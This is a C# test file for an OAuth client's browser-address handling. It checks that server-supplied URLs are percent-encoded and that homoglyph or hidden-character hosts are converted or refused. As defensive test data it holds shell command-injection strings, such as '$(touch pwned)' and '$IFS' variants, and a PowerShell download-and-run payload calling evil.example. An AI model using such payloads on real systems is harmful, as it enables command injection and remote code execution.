using System.Diagnostics;
using System.Text.RegularExpressions;
using ProofKey.Client.Loopback;

namespace ProofKey.Client.Tests;

/// <summary>An address that a server chose, as it is opened and shown: nothing that reads it on the way finds anything but an address.</summary>
public sealed class BrowserAddressTests
{
    private const string Hostile = "/a/$(touch pwned)`touch pwned`'\";(touch pwned);touch pwned&touch pwned|touch pwned<x>y\\z{a,b}[c]!*~^";

    private static readonly char[] Marks = [.. "$`'\"();|<>\\{}[]!*^ "];

    private static CancellationToken Cancel => TestContext.Current.CancellationToken;

    [Theory]
    [InlineData(SystemKind.Linux, "BROWSER=firefox", "firefox")]
    [InlineData(SystemKind.Linux, "BROWSER=wslview", "wslview")]
    [InlineData(SystemKind.Linux, "BROWSER=firefox --new-window %s", "firefox")]
    [InlineData(SystemKind.Linux, "DISPLAY=:0", "xdg-open")]
    [InlineData(SystemKind.Linux, "WSL_DISTRO_NAME=Debian;WSL_INTEROP=/run/WSL/8_interop", "/mnt/c/Windows/System32/rundll32.exe", "rundll32.exe")]
    [InlineData(SystemKind.MacOS, "", "/usr/bin/open")]
    [InlineData(SystemKind.Windows, "", @"C:\Windows\System32\rundll32.exe")]
    [Assertion("CL-06")]
    internal void No_launcher_gets_text_of_a_shell_or_of_PowerShell(SystemKind system, string variables, params string[] programs)
    {
        var machine = Machine.With([.. variables.Split(';', StringSplitOptions.RemoveEmptyEntries).Select(pair => pair.Split('=', 2)).Select(pair => (pair[0], pair[1]))]);

        var commands = BrowserLadder.Commands(machine.WithFiles() with { System = system, SystemFolder = @"C:\Windows\System32" }, Plain($"https://login.example.com{Hostile}?x=1&y={Hostile}")).ToList();

        commands.Select(command => command.Program).ShouldBe(programs);
        foreach (var command in commands)
            command.Arguments.ShouldContain(argument => argument.StartsWith("https://login.example.com/a/%24%28touch%20pwned%29%60", StringComparison.Ordinal)
                && argument.IndexOfAny(Marks) < 0 && argument.IndexOf('&') > argument.IndexOf('?'));
    }

    [Theory]
    [InlineData("true {0}", "$(touch$IFS$9pwned)")]
    [InlineData("true {0}", "a;touch$IFS$9pwned")]
    [InlineData("true \"{0}\"", "$(touch$IFS$9pwned)")]
    [InlineData("true '{0}'", "';touch$IFS$9pwned;'")]
    [Assertion("CL-06")]
    public async Task A_script_that_makes_a_command_of_it_runs_nothing_of_the_address(string command, string hostile)
    {
        var address = $"https://login.example.com/{hostile}?x={hostile}";
        using var folder = new TemporaryFolder();
        var made = Path.Combine(folder.Path, "pwned");

        await RunAsync(folder, command, new Uri(address).AbsoluteUri);
        File.Exists(made).ShouldBeTrue("the address in its parsed form would run it");
        File.Delete(made);
        await RunAsync(folder, command, Plain(address));

        File.Exists(made).ShouldBeFalse();
    }

    [Theory]
    [InlineData("https://login.example.com/authorize?p=B2C_1_sign-in&x=a%2Bb+c", "https://login.example.com/authorize?p=B2C_1_sign-in&x=a%2Bb+c")]
    [InlineData("https://login.example.com:8443/~me/realms/a%20b,c@d+e=f:g/auth#/device?code=AB&x", "https://login.example.com:8443/~me/realms/a%20b,c@d+e=f:g/auth#/device?code=AB&x")]
    [InlineData("http://127.0.0.1:5000/", "http://127.0.0.1:5000/")]
    [InlineData("http://[::1]:5000/x", "http://[::1]:5000/x")]
    [InlineData("https://b\u00fccher.example/x", "https://xn--bcher-kva.example/x")]
    [InlineData("https://\u0440\u0430ypal.example/", "https://xn--ypal-43d9g.example/")]
    [InlineData("https://login.example.com/x\u200b?y\u202e", "https://login.example.com/x%E2%80%8B?y%E2%80%AE")]
    [InlineData("https://login.example.com/?q=a/b:c@d?e", "https://login.example.com/?q=a/b:c@d?e")]
    [InlineData("https://login.example.com/100%", "https://login.example.com/100%25")]
    [InlineData("https://login.example.com/\ud83d\ude00", "https://login.example.com/%F0%9F%98%80")]
    [Rfc("RFC 3986", "2.3")]
    public void It_stays_the_same_address_with_its_host_as_the_name_system_knows_it(string address, string plain)
    {
        Plain(address).ShouldBe(plain);
        Plain(plain).ShouldBe(plain);
    }

    [Theory]
    [InlineData("https://aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\u00fc.example/", "its name is too long to be written in ASCII")]
    [InlineData("https://$(x):y@login.example.com/", "a user's name is none of a server's address")]
    [InlineData("ftp://login.example.com/", "")]
    [InlineData("mailto:a@example.com", "")]
    [Assertion("CL-06")]
    public void A_host_that_is_no_name_in_ASCII_is_no_address(string address, string why) =>
        BrowserAddress.TryMake(new Uri(address), out _).ShouldBeFalse(why);

    // By the system's tables of characters the wide letters are "$(x)", without them another name.
    [Theory]
    [InlineData("https://\uff04\uff08x\uff09.example/")]
    [InlineData("https://li\u200bve.example/")]
    [InlineData("https://log\u0131n.example/")]
    [Assertion("CL-06")]
    public void What_is_hidden_in_a_host_is_seen_or_refused(string address) =>
        (BrowserAddress.TryMake(new Uri(address), out var plain) && !Regex.IsMatch(plain.AbsoluteUri, "^https://[a-z0-9.-]+/$")).ShouldBeFalse();

    [Fact]
    [Assertion("CL-06")]
    public async Task What_the_metadata_name_is_opened_and_given_to_the_program_in_plain_letters()
    {
        await using var server = await ScriptedServer.StartAsync();
        server.SpoilMetadata = metadata =>
        {
            metadata["authorization_endpoint"] = server.At("/a/$(iex(irm('https://evil.example/x')))?y=$(z)").OriginalString;
            metadata["end_session_endpoint"] = server.At("/o/$(x)`y`;'z'").OriginalString;
        };
        await using var client = new PublicClient(server.Options());

        await using var pending = await client.BeginAsync(Cancel);
        var signOut = await client.SignOut.EndSessionUriAsync(Cancel);

        pending.AuthorizeUri.AbsoluteUri.ShouldStartWith(server.At("/a/%24%28iex%28irm%28%27https://evil.example/x%27%29%29%29?y=%24%28z%29&").AbsoluteUri);
        pending.AuthorizeUri.AbsoluteUri.IndexOfAny(Marks).ShouldBe(-1);
        signOut!.AbsoluteUri.ShouldStartWith(server.At("/o/%24%28x%29%60y%60%3B%27z%27?client_id=").AbsoluteUri);
    }

    [Fact]
    public async Task What_a_device_shows_has_its_host_as_the_name_system_knows_it()
    {
        await using var server = await ScriptedServer.StartAsync();
        server.SpoilDevice = answer =>
        {
            answer["verification_uri"] = "https://\u0440\u0430ypal.example/device";
            answer["verification_uri_complete"] = "https://\u0440\u0430ypal.example/device?code=$(x)";
        };
        await using var client = new PublicClient(server.Options());

        await using var device = await client.BeginDeviceAsync(Cancel);

        device.VerificationUri.AbsoluteUri.ShouldBe("https://xn--ypal-43d9g.example/device");
        device.VerificationUriComplete!.AbsoluteUri.ShouldBe("https://xn--ypal-43d9g.example/device?code=%24%28x%29");
    }

    // The parser of addresses takes the first for one that is too long, and the second for one that it can write in ASCII, which it cannot.
    public static TheoryData<string> NoPlainHosts => [$"{new string('a', 70)}\u00fc", string.Concat(Enumerable.Range(0xa1, 52).Select(letter => (char)letter))];

    [Theory]
    [MemberData(nameof(NoPlainHosts))]
    public async Task A_page_of_signing_out_whose_host_cannot_be_written_plainly_stops_nothing(string host)
    {
        await using var server = await ScriptedServer.StartAsync();
        using var browser = new TestBrowser();
        server.SpoilMetadata = metadata => metadata["end_session_endpoint"] = $"https://{host}.example/";
        await using var client = new PublicClient(server.Options(browser));

        var session = await client.GetSessionAsync(Cancel);

        (await session.SignOutAsync(Cancel)).EndSessionUri.ShouldBeNull();
    }

    [Theory]
    [MemberData(nameof(NoPlainHosts))]
    [Assertion("CL-06")]
    public async Task A_server_whose_host_cannot_be_written_plainly_is_refused(string host)
    {
        await using var server = await ScriptedServer.StartAsync();
        server.SpoilMetadata = metadata => metadata["authorization_endpoint"] = $"https://{host}.example/";
        await using var client = new PublicClient(server.Options());

        (await Should.ThrowAsync<ProtocolViolationException>(() => client.BeginAsync(Cancel))).Violation.Code.ShouldBe("endpoint_address");
    }

    private static async Task RunAsync(TemporaryFolder folder, string command, string address)
    {
        var start = new ProcessStartInfo("sh", ["-c", command.Replace("{0}", address, StringComparison.Ordinal)]) { WorkingDirectory = folder.Path, RedirectStandardError = true };
        using var running = Process.Start(start)!;
        await running.WaitForExitAsync(Cancel);
    }

    private static string Plain(string address) => BrowserAddress.TryMake(new Uri(address), out var plain) ? plain.AbsoluteUri : "none";
}
